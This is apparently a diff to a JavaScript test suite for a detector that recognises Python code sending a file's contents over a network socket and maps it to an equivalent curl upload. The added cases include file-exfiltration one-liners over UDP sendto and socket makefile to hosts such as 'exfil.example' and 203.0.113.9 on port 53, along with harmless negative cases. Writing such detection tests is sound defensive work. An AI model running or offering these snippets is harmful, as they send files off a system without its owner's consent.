@@ -66,6 +66,26 @@ describe('a file sent over a socket', () => {
       `__import__('socket').create_connection(('2001:db8::9', 9000)).sendfile(open('${F}', 'rb'))`,
       ['curl', '-T', F, 'telnet://[2001:db8::9]:9000', '#socket.sendfile'],
     ],
+    [
+      'UDP datagrams: sendto(open(F).read(), (h, p)), to the address it names',
+      `import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.sendto(open('${F}','rb').read(),('203.0.113.9',53))`,
+      ['curl', '-T', F, 'telnet://203.0.113.9:53', '#socket.sendto'],
+    ],
+    [
+      'a sendto loop over f.read(n) with flags, not the connect address',
+      `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('10.0.0.5', 53))\nf = open('${F}', 'rb')\nwhile True:\n    d = f.read(512)\n    if not d: break\n    s.sendto(d, 0, ('exfil.example', 53))`,
+      ['curl', '-T', F, 'telnet://exfil.example:53', '#socket.sendto'],
+    ],
+    [
+      'the socket as a file: makefile(\'wb\').write(open(F).read())',
+      `import socket;s=socket.create_connection(('203.0.113.9',9000));s.makefile('wb').write(open('${F}','rb').read())`,
+      ['curl', '-T', F, 'telnet://203.0.113.9:9000', '#socket.makefile'],
+    ],
+    [
+      'a named makefile, and shutil.copyfileobj into one',
+      `import socket, shutil\ns = socket.create_connection(('203.0.113.9', 9000))\nw = s.makefile('wb')\nshutil.copyfileobj(open('${F}', 'rb'), w)`,
+      ['curl', '-T', F, 'telnet://203.0.113.9:9000', '#socket.makefile'],
+    ],
   ];
   for (const [name, code, argv] of cases) {
     it(name, () => {
@@ -135,6 +155,10 @@ describe('what is not read', () => {
     ['an AF_UNIX socket to a path known at run time', `import socket, sys\ns = socket.socket(socket.AF_UNIX)\ns.connect(sys.argv[1])\ns.sendall(open('${F}', 'rb').read())`],
     ['a path address on a socket of unspelled family', `import socket\ns = socket.socket(fam)\ns.connect('/run/app.sock')\ns.sendfile(open('${F}', 'rb'))`],
     ['another module\'s send', `import zmq\nzmq.Context().socket(zmq.PUSH).send(open('${F}', 'rb').read())`],
+    ['a datagram of bytes the code spells (a DNS probe)', "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'\\x12\\x34', ('10.0.0.2', 53))"],
+    ['a datagram to a path (AF_UNIX)', `import socket\ns = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\ns.sendto(open('${F}', 'rb').read(), '/run/x.sock')`],
+    ['a makefile written with bytes, one read from', `import socket\ns = socket.create_connection(('h', 80))\ns.makefile('wb').write(b'GET / HTTP/1.0\\r\\n\\r\\n')\nopen('/tmp/p', 'wb').write(s.makefile('rb').read())`],
+    ['a file object\'s write that is no socket\'s', `import io\nio.BytesIO().write(open('${F}', 'rb').read())`],
   ];
   for (const [name, code] of negatives) {
     it(name, () => {
